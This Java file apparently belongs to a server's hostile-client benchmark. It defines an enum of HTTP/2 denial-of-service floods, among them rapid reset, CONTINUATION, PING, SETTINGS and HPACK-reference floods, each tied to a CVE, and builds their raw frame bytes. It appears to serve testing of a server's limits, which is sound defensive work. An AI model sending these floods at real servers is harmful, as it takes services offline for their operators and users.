package org.heliostat.benchmarks.hostile;

import static org.heliostat.benchmarks.hostile.Frames.joined;

import java.util.Arrays;
import java.util.Locale;
import java.util.function.Function;
import java.util.function.IntFunction;
import java.util.stream.Collectors;

/**
 * What a bad client sends on each of its connections, as much as ends one with the limits that are shipped, and little more.
 * The constant's name in lower case with dashes is its name everywhere else.
 */
enum Flood {
    RAPID_RESET(
            "requests that are taken back at once (CVE-2023-44487)",
            path -> streams(300, n -> joined(Frames.get(n, path), Frames.frame(Frames.RST_STREAM, n, 8)))),
    MADE_RESET(
            "requests that the server is made to reset (CVE-2025-8671)",
            path -> streams(150, n -> joined(Frames.get(n, path), Frames.frame(Frames.WINDOW_UPDATE, n, 0)))),
    MALFORMED(
            "requests that are malformed",
            path -> streams(
                    150,
                    n -> Frames.frame(
                            Frames.HEADERS,
                            Frames.END_HEADERS | Frames.END_STREAM,
                            n,
                            joined(Frames.request("GET", path), Frames.block("te", "gzip"))))),
    CONTINUATION(
            "a field block without end (CVE-2026-33871)",
            path -> joined(
                    Frames.frame(Frames.HEADERS, 0, 1, Frames.request("GET", path)),
                    repeated(200, Frames.frame(Frames.CONTINUATION, 0, 1, new byte[0])))),
    PING("PING (CVE-2019-9512)", path -> repeated(10_100, Frames.frame(Frames.PING, 0, 0, new byte[8]))),
    SETTINGS("SETTINGS (CVE-2019-9515)", path -> repeated(150, Frames.settings())),
    EMPTY(
            "DATA without content (CVE-2019-9518)",
            path -> joined(
                    Frames.headers(1, "POST", path, false),
                    repeated(1_100, Frames.frame(Frames.DATA, 0, 1, new byte[0])))),
    PRIORITY("PRIORITY (CVE-2019-9513)", path -> repeated(3_100, Frames.frame(Frames.PRIORITY, 0, 1, new byte[5]))),
    REFERENCES("references to a long field (CVE-2026-49975)", Flood::references),
    ZERO_WINDOW(
            "100 answers for which there is no window (CVE-2019-9517)",
            path -> joined(Frames.settings(Frames.INITIAL_WINDOW_SIZE, 0), streams(100, n -> Frames.get(n, path))));

    private final String what;
    private final Function<String, byte[]> bytes;

    Flood(String what, Function<String, byte[]> bytes) {
        this.what = what;
        this.bytes = bytes;
    }

    String label() {
        return name().toLowerCase(Locale.ROOT).replace('_', '-');
    }

    String what() {
        return what;
    }

    /** @param path of the requests in it */
    byte[] bytes(String path) {
        return joined(Frames.preface(), bytes.apply(path));
    }

    static Flood of(String label) {
        return Arrays.stream(values())
                .filter(each -> each.label().equals(label.strip().toLowerCase(Locale.ROOT)))
                .findFirst()
                .orElseThrow(() -> new IllegalArgumentException("flood: " + label + " (expected: " + labels() + ")"));
    }

    static String labels() {
        return Arrays.stream(values()).map(Flood::label).collect(Collectors.joining(", "));
    }

    /** Each request puts a field of 4,000 bytes into the table, and refers to it 10,000 times. */
    private static byte[] references(String path) {
        byte[] field = Frames.block("x", "y".repeat(4_000));
        field[0] = 0x40;
        byte[] references = new byte[10_000];
        Arrays.fill(references, (byte) 0xbe);
        byte[] block = joined(Frames.request("GET", path), field, references);
        return streams(20, n -> Frames.frame(Frames.HEADERS, Frames.END_HEADERS | Frames.END_STREAM, n, block));
    }

    private static byte[] streams(int count, IntFunction<byte[]> ofStream) {
        byte[][] all = new byte[count][];
        for (int i = 0; i < count; i++) {
            all[i] = ofStream.apply(2 * i + 1);
        }
        return joined(all);
    }

    private static byte[] repeated(int count, byte[] frame) {
        byte[][] all = new byte[count][];
        Arrays.fill(all, frame);
        return joined(all);
    }
}
